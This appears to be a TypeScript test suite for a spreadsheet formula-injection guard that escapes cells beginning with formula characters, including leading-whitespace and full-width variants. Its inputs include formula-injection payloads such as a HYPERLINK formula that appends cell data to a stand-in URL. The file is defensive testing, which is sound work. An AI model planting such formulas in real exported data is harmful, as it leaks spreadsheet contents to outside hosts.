import assert from 'node:assert/strict';
import { test } from 'node:test';
import { neutraliseFormula, restoreFormula } from './formula.ts';

test('cells a spreadsheet would run as formulas get a leading apostrophe', () => {
  const cases: Array<[string, string]> = [
    ['=HYPERLINK("http://x?"&A1)', `'=HYPERLINK("http://x?"&A1)`],
    ['+1', `'+1`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\tindented', `'\tindented`],
    ['\rreturn', `'\rreturn`],
    // Already apostrophed: one more, so that reading takes off exactly what writing added.
    [`'=1`, `''=1`],
  ];
  for (const [cell, written] of cases) assert.equal(neutraliseFormula(cell), written, JSON.stringify(cell));
});

test('other cells are written as they are', () => {
  for (const cell of ['a";=1', 'x;=1+2', 'Plain text', '', `'quoted`, ' plain', '\nplain', '2023-01-11', 'JP;US', 'مرحبا', '🇯🇵', '1 = 1', 'a\n=1']) {
    assert.equal(neutraliseFormula(cell), cell);
  }
});

test('reading takes off exactly the one apostrophe writing added, so every text survives', () => {
  const texts = ['=1', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx', `'=1`, `''=1`, `'plain`, `'`, 'a";=1', '', '-'];
  for (const text of texts) assert.equal(restoreFormula(neutraliseFormula(text)), text, JSON.stringify(text));
  // A hand-written cell with an apostrophe before ordinary text keeps it.
  assert.equal(restoreFormula(`'hello`), `'hello`);
});

test('a formula character after leading spaces or line breaks, or in its full-width form, is guarded too', () => {
  // Spreadsheets trim leading whitespace before deciding a cell is a formula, and Excel and
  // LibreOffice in East Asian locales read the full-width ＝ ＋ － ＠ as = + - @.
  const cases: Array<[string, string]> = [
    [' =1+1', `' =1+1`],
    ['   +SUM(A1)', `'   +SUM(A1)`],
    ['\n=HYPERLINK("http://x")', `'\n=HYPERLINK("http://x")`],
    ['\r\n@SUM(A1)', `'\r\n@SUM(A1)`],
    [' \t -1', `' \t -1`],
    ['\u00a0=1', `'\u00a0=1`],
    ['\u3000=1', `'\u3000=1`],
    ['＝HYPERLINK("http://x")', `'＝HYPERLINK("http://x")`],
    ['＋1', `'＋1`],
    ['－2', `'－2`],
    ['＠SUM(A1)', `'＠SUM(A1)`],
    [' ＝1', `' ＝1`],
    [`' =1`, `'' =1`],
  ];
  for (const [cell, written] of cases) {
    assert.equal(neutraliseFormula(cell), written, JSON.stringify(cell));
    assert.equal(restoreFormula(written), cell, `${JSON.stringify(cell)} reads back as written`);
  }
});
